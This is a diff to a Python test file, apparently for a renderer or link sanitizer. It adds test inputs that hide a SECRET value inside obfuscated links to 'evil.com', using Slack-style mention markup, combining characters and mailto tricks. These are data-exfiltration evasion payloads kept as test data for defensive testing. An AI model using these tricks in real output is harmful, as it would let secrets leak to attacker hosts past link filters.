@@ -97,6 +97,9 @@ def test_every_renderer_finds_a_known_address_alive_and_whole(frame: str, known:
         "[x](https://ok.com/a)||w\u2060ww.ok.com/d||",
         f'_<a href="mail\u0301o&#58;{SECRET}&#64;evil.com">![p](https://ok.com/a)</a>_',
         "a=\u0338https://evil.com x=\u0338evil.com",
+        f"see <!here|evil.>com/{SECRET}",
+        f"<#C1|evil.c>om/{SECRET}",
+        f"<@&evil.c>om/{SECRET}",
         f"| a | b |\n|---|---|\n| `c | `d` https://ok.com/a `{SECRET}@x.com ` ` | e` |\n",
     ],
 )
